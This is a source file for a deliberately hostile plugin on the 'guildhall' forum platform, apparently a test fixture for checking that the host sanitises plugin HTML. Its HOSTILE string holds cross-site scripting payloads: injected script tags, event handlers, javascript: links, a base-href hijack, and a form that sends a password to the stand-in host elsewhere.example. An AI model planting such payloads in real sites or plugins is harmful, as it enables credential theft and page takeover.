/** Shows what would take over the page, were it let. */
import { definePlugin } from 'guildhall/plugin'

const HOSTILE = `
  </div></article></main><script>steal()</script>
  <p id="post-1" onclick="steal()" style="position:fixed">kept words</p>
  <p id="hostile-1">its own</p>
  <form action="https://elsewhere.example/" method="post"><input name="password"><button formaction="//elsewhere.example">Go</button></form>
  <a href="javascript:steal()">away</a><iframe src="https://elsewhere.example/"></iframe>
  <img src="javascript:steal()" onerror="steal()"><base href="https://elsewhere.example/"><meta http-equiv="refresh" content="0">
  <textarea>&lt;/textarea&gt;&lt;script&gt;steal()&lt;/script&gt;</textarea>
  <svg><title><script>steal()</script></title><use href="https://elsewhere.example/#x"/></svg>
  <b><i><u>unclosed`

export default definePlugin({
  id: 'hostile',
  name: { en: 'Hostile', fr: 'Hostile' },
  description: { en: 'A plugin that fails.', fr: 'Une extension qui échoue.' },
  version: '1.0.0',
  requires: { server: '>=0.1.0' },
  load: { posts: async (_ctx, posts) => new Map(posts.map(({ id }) => [id, id])) },
  slots: { 'post.footer': () => <div dangerouslySetInnerHTML={{ __html: HOSTILE }} /> },
})
